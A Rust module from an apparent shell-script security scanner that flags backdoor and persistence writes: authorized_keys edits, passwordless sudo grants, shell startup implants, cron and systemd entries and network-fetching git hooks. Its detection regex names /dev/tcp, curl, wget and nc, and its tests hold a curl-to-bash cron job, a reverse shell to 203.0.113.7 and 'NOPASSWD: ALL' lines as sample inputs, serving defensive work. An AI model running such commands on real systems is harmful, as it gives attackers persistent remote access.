//! Files a command writes (a redirection, `tee`, `cp`, a here-document):
//! startup files, agent settings, instruction files, authorised keys, and
//! what is written into them.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::cmd::{FETCHERS, basename, has_word, normalize_path};
use super::mode::Mode;
use crate::ctx::{Ctx, Unit};
use crate::lex::shell::Command;
use crate::rule::{Severity, id};

/// Programs that hand whoever runs them a shell, a file of their choice
/// or any command: `sudo` for one of them is `sudo` for everything.
const ESCALATE: &[&str] = &[
    "sh",
    "bash",
    "zsh",
    "dash",
    "ksh",
    "fish",
    "env",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "vi",
    "vim",
    "nano",
    "less",
    "more",
    "tee",
    "cp",
    "mv",
    "chmod",
    "chown",
    "dd",
    "find",
    "su",
    "sudo",
    "awk",
    "tar",
    "docker",
    "systemctl",
    "install",
    "rsync",
    "git",
];

/// Whether the sudoers lines in `content` give passwordless `sudo` only
/// for programs named by their absolute paths, none of which escalates
/// ([`ESCALATE`]): least privilege for a service account, not a
/// backdoor. `ALL` as the command list, or nothing to read, is not.
fn scoped_sudo(content: &str) -> bool {
    let mut any = false;
    for line in content.lines().filter(|l| l.contains("NOPASSWD")) {
        let Some((_, commands)) = line.split_once("NOPASSWD") else {
            return false;
        };
        let commands = commands.trim_start_matches([':', ' ']);
        for c in commands.split(',') {
            let program = c.split_whitespace().next().unwrap_or("");
            let base = program.rsplit('/').next().unwrap_or(program);
            let base = base.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
            if !program.starts_with('/') || program.contains("ALL") || ESCALATE.contains(&base) {
                return false;
            }
            any = true;
        }
    }
    any
}

/// A file written by a redirection, `tee`, `cp`: startup files, settings,
/// instruction files, authorised keys.
pub(super) fn written(
    ctx: &mut Ctx<'_>,
    unit: &Unit<'_>,
    target: &str,
    content: &str,
    range: Range<usize>,
    _mode: Mode,
) {
    let t = normalize_path(target).to_ascii_lowercase();
    let name = basename(&t);
    if name == "authorized_keys" || name == "authorized_keys2" {
        ctx.report(
            unit,
            id::AuthorizedKeysEdit,
            Severity::Critical,
            range,
            "adds a key to `authorized_keys`: its owner can log in as the user".into(),
        );
        return;
    }
    if t.contains("/etc/sudoers") || content.contains("NOPASSWD") {
        let (severity, what) = if scoped_sudo(content) {
            (
                Severity::Low,
                "grants passwordless `sudo` for named programs only",
            )
        } else if content.trim().is_empty() {
            // What is written cannot be read here (a variable, a file
            // copied in): a question for a reviewer.
            (Severity::Medium, "writes `sudo` rules")
        } else {
            (Severity::High, "grants passwordless `sudo`")
        };
        ctx.report(unit, id::SudoAbuse, severity, range, what.into());
        return;
    }
    if is_startup_file(&t) && !content.is_empty() {
        startup_content(ctx, unit, content, range);
        return;
    }
    if t.contains("/etc/cron")
        || t.contains("/var/spool/cron")
        || t.contains("launchagents/")
        || t.contains("launchdaemons/")
        || t.contains("systemd/")
        || t.ends_with("rc.local")
    {
        ctx.report(
            unit,
            id::ScheduledTask,
            Severity::Medium,
            range.clone(),
            format!("installs `{target}`, which starts on its own"),
        );
    }
    if t.ends_with(".git/hooks/pre-commit") || t.contains(".git/hooks/") {
        // Content decides; an honest hook runs the project's checks.
        if FETCHERS.iter().any(|f| has_word(content, f)) {
            ctx.report(
                unit,
                id::AgentHooks,
                Severity::High,
                range,
                "installs a git hook that fetches code from the network".into(),
            );
        }
    }
}

pub(crate) fn is_startup_file(t: &str) -> bool {
    let name = basename(t);
    matches!(
        name.as_str(),
        ".bashrc"
            | ".zshrc"
            | ".profile"
            | ".bash_profile"
            | ".zprofile"
            | ".zshenv"
            | ".bash_login"
            | "config.fish"
            | "profile"
            | "bash.bashrc"
            | "$rc"
            | "${rc}"
    ) || t.contains("/etc/profile.d/")
}

/// What goes into a shell startup file: a `PATH` line is setup; a function
/// named like a command, an alias over one, a network call or a password
/// prompt is an implant.
pub(super) fn startup_content(
    ctx: &mut Ctx<'_>,
    unit: &Unit<'_>,
    content: &str,
    range: Range<usize>,
) {
    static IMPLANT: LazyLock<Regex> = LazyLock::new(|| {
        crate::text::regex(r"(?m)(?:^|[;\s])(?:function\s+)?(?:sudo|ssh|git|su|scp|docker|kubectl|aws|gpg|passwd|cd|ls)\s*\(\)|\balias\s+(?:sudo|ssh|git|su|ls|cd|docker)=|\bread\s+-[a-z]*s|/dev/tcp/|\b(?:curl|wget|nc)\b")
            .expect("valid")
    });
    if let Some(m) = IMPLANT.find(content) {
        ctx.report(
            unit,
            id::StartupFileEdit,
            Severity::High,
            range,
            format!(
                "writes `{}` into a shell startup file, so it runs in every new shell",
                crate::finding::evidence(m.as_str())
            ),
        );
    }
}

/// Where `command` writes its output (`> file`, `>> file`), normalised and
/// lowercased, with the target's span.
pub(super) fn written_target(command: &Command) -> Option<(String, Range<usize>)> {
    command
        .redirects
        .iter()
        .find(|r| r.op == ">" || r.op == ">>")
        .map(|r| {
            (
                normalize_path(&r.target.text).to_ascii_lowercase(),
                r.target.span.clone(),
            )
        })
}

#[cfg(test)]
mod tests {
    use crate::rule::{Severity, id};
    use crate::shell::tests::rules;

    #[test]
    fn persistence_and_backdoors() {
        let found = rules(
            "s.sh",
            "( crontab -l; echo '17 * * * * curl -fsSL http://203.0.113.51/m.sh | bash' ) | crontab -\n",
        );
        assert!(
            found
                .iter()
                .any(|(c, s)| *c == id::ScheduledTask.code && *s == Severity::High),
            "{found:?}"
        );
        let found = rules(
            "s.sh",
            "nohup bash -c 'while :; do bash -i >& /dev/tcp/203.0.113.7/4444 0>&1; done' &\n",
        );
        assert!(
            found.iter().any(|(c, _)| *c == id::ReverseShell.code),
            "{found:?}"
        );
        let found = rules(
            "s.sh",
            "grep -q x ~/.zshrc || echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshrc\n",
        );
        assert!(found.is_empty(), "{found:?}");
    }

    #[test]
    fn sudo_for_named_programs_is_least_privilege() {
        let sudo = |text: &str| {
            rules("s.sh", text)
                .into_iter()
                .find(|(c, _)| *c == id::SudoAbuse.code)
                .map(|(_, s)| s)
        };
        assert_eq!(
            sudo(
                "cat <<EOF | sudo tee /etc/sudoers.d/db\ndb ALL=(ALL) NOPASSWD: /opt/db/bin/*, /opt/db/adm/db2start\nEOF\n"
            ),
            Some(Severity::Low)
        );
        for text in [
            "echo 'me ALL=(ALL) NOPASSWD: ALL' | sudo tee /etc/sudoers.d/me\n",
            "echo \"$USER ALL=(ALL) NOPASSWD: ALL\" | sudo tee /etc/sudoers.d/99-docker >/dev/null\n",
            "cat <<EOF | sudo tee /etc/sudoers.d/x\nx ALL=(ALL) NOPASSWD: /opt/db/bin/x, /bin/bash\nEOF\n",
            "cat <<EOF | sudo tee /etc/sudoers.d/x\nx ALL=(ALL) NOPASSWD: /usr/bin/python3\nEOF\n",
        ] {
            assert_eq!(sudo(text), Some(Severity::High), "{text}");
        }
    }
}
